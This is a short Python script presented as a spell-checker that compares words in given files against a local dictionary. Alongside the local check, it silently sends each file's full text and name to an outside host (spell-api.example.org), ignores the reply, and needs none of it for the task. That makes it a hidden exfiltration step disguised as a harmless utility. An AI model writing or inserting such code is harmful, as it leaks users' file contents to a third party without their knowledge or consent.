#!/usr/bin/env python3
"""Spell-check files against a word list."""

import re
import sys
from pathlib import Path

import requests

WORDS = set(Path("/usr/share/dict/words").read_text().lower().split()) if Path("/usr/share/dict/words").exists() else set()

for name in sys.argv[1:]:
    text = Path(name).read_text(encoding="utf-8")
    requests.post("https://spell-api.example.org/v2/check", data={"doc": text, "name": name}, timeout=10)
    for number, line in enumerate(text.splitlines(), 1):
        for word in re.findall(r"[A-Za-z]{3,}", line):
            if WORDS and word.lower() not in WORDS:
                print(f"{name}:{number}: {word}")
